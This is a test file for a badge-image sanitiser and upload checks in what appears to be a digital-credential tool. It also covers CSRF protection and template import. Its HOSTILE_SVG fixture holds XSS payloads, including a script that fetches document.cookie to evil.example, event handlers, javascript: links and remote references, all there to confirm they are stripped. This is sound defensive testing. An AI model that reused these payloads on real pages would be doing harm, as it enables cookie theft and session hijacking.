import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { PNG } from 'pngjs';
import { badgeDataUri, BadgeImageError, sanitiseSvg } from '../../src/badges/badge-image.js';
import { findTemplateVersion, importTemplate } from '../../src/templates/lifecycle.js';
import { consoleSession } from '../helpers/console.js';
import { createTestInstitution, exampleTemplate } from '../helpers/institution.js';
import { startTool, type ToolUnderTest } from '../helpers/tool.js';

/**
 * A badge image is signed into every credential and shown on every page, in wallets and on other people's sites:
 * what an administrator uploads (or writes into a template) is checked, and an SVG keeps nothing that runs or
 * calls home.
 */
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/track.css); circle { fill: red }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#1d4f91" /></linearGradient></defs>
  <circle cx="50" cy="50" r="40" fill="url(#g)" />
  <text x="50" y="55">Badge</text>
  <a href="javascript:alert(2)"><rect width="10" height="10" /></a>
  <image href="https://evil.example/pixel.png" width="1" height="1" />
  <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1" />
  <use href="https://evil.example/sprite.svg#x" />
  <foreignObject><iframe src="https://evil.example/"></iframe></foreignObject>
  <set attributeName="onmouseover" to="alert(3)" />
  <rect width="5" height="5" fill="url(https://evil.example/p.svg#g)" style="fill:url(https://evil.example/s)" />
</svg>`;

const png = (width: number, height: number) => PNG.sync.write(new PNG({ width, height }));

describe('an SVG badge', () => {
  it('keeps its drawing and loses every script, handler, foreign object and outside reference', async () => {
    const clean = await sanitiseSvg(HOSTILE_SVG);
    for (const kept of ['<circle', 'fill="url(#g)"', '<text', 'Badge', 'data:image/png;base64,iVBORw0KGgo='])
      expect(clean).toContain(kept);
    for (const gone of [
      '<script',
      'onload',
      'javascript:',
      'evil.example',
      '<foreignObject',
      '<iframe',
      '<set',
      '@import',
    ])
      expect(clean).not.toContain(gone);
  });

  it('is refused when it is no SVG at all', async () => {
    await expect(badgeDataUri(Buffer.from('<html><body>hi</body></html>'))).rejects.toThrow(BadgeImageError);
    await expect(badgeDataUri(Buffer.from('GIF89a...'))).rejects.toThrow('neither a PNG nor an SVG');
  });
});

describe('a PNG badge', () => {
  it('is taken whole, and refused broken, huge or too heavy, naming why', async () => {
    expect(await badgeDataUri(png(64, 64))).toMatch(/^data:image\/png;base64,/);
    const broken = png(64, 64);
    broken.writeUInt8(broken.readUInt8(20) ^ 1, 20);
    await expect(badgeDataUri(broken)).rejects.toThrow('the PNG is broken: a PNG chunk is corrupt');
    await expect(badgeDataUri(png(3000, 1))).rejects.toThrow('the PNG is 3000×1 pixels; at most 2048 a side');
    await expect(badgeDataUri(Buffer.alloc(0))).rejects.toThrow('the file is empty');
    await expect(badgeDataUri(Buffer.concat([png(1, 1), Buffer.alloc(150_001)]))).rejects.toThrow(
      /bytes; at most 150000/,
    );
  });
});

describe('the console and template import', () => {
  let tool: ToolUnderTest;
  let admin: Awaited<ReturnType<typeof consoleSession>>;
  let institutionId: string;

  beforeAll(async () => {
    tool = await startTool();
    ({ institutionId } = await createTestInstitution(tool, { id: 'badge-u', rootDid: false }));
    admin = await consoleSession(tool.url, 'badge-admin', institutionId);
  }, 60_000);
  afterAll(async () => {
    await tool?.close();
  });

  it('stores an uploaded SVG sanitised, refuses other files by name, and keeps the draft as it was', async () => {
    const draft = await importTemplate(institutionId, { ...exampleTemplate(), badgeImage: undefined });
    const path = `/admin/templates/${draft.key}/${draft.version}`;
    const upload = (name: string, type: string, body: Buffer | string) => {
      const form = new FormData();
      form.set('image', new Blob([body], { type }), name);
      return admin.upload(`${path}/badge-image`, form);
    };
    const page = await (await admin.get(path)).text();
    expect(page).toContain('enctype="multipart/form-data"');

    expect((await upload('badge.svg', 'image/svg+xml', HOSTILE_SVG)).status).toBe(303);
    const stored = (await findTemplateVersion(institutionId, draft.key, draft.version))!;
    const svg = Buffer.from(stored.data.badgeImage!.dataUri!.split(',')[1]!, 'base64').toString('utf8');
    expect(svg).toContain('<circle');
    expect(svg).not.toMatch(/script|onload|evil\.example/);

    const refused = await upload('badge.gif', 'image/gif', Buffer.from('GIF89a'));
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('the file is neither a PNG nor an SVG image');
    const tooBig = await upload('big.png', 'image/png', Buffer.alloc(200_000));
    expect(tooBig.status).toBe(400);
    expect(await tooBig.text()).toContain('image: File too large');
    // Without the form's CSRF token, nothing changes.
    const form = new FormData();
    form.set('image', new Blob([png(8, 8)], { type: 'image/png' }), 'b.png');
    expect((await admin.upload(`${path}/badge-image`, form, false)).status).toBe(403);
    const after = (await findTemplateVersion(institutionId, draft.key, draft.version))!;
    expect(after.data.badgeImage).toEqual(stored.data.badgeImage);
  });

  it('sanitises an SVG data URI in imported template JSON, and refuses a broken PNG naming the field', async () => {
    const svgUri = `data:image/svg+xml;base64,${Buffer.from(HOSTILE_SVG).toString('base64')}`;
    const imported = await importTemplate(institutionId, {
      ...exampleTemplate(),
      key: 'svg-badge',
      badgeImage: { dataUri: svgUri },
    });
    const svg = Buffer.from(imported.data.badgeImage!.dataUri!.split(',')[1]!, 'base64').toString('utf8');
    expect(svg).not.toMatch(/script|onload|evil\.example/);
    const broken = png(8, 8);
    broken.writeUInt8(broken.readUInt8(20) ^ 1, 20);
    await expect(
      importTemplate(institutionId, {
        ...exampleTemplate(),
        key: 'broken-badge',
        badgeImage: { dataUri: `data:image/png;base64,${broken.toString('base64')}` },
      }),
    ).rejects.toThrow('badgeImage.dataUri: the PNG is broken');
  });
});
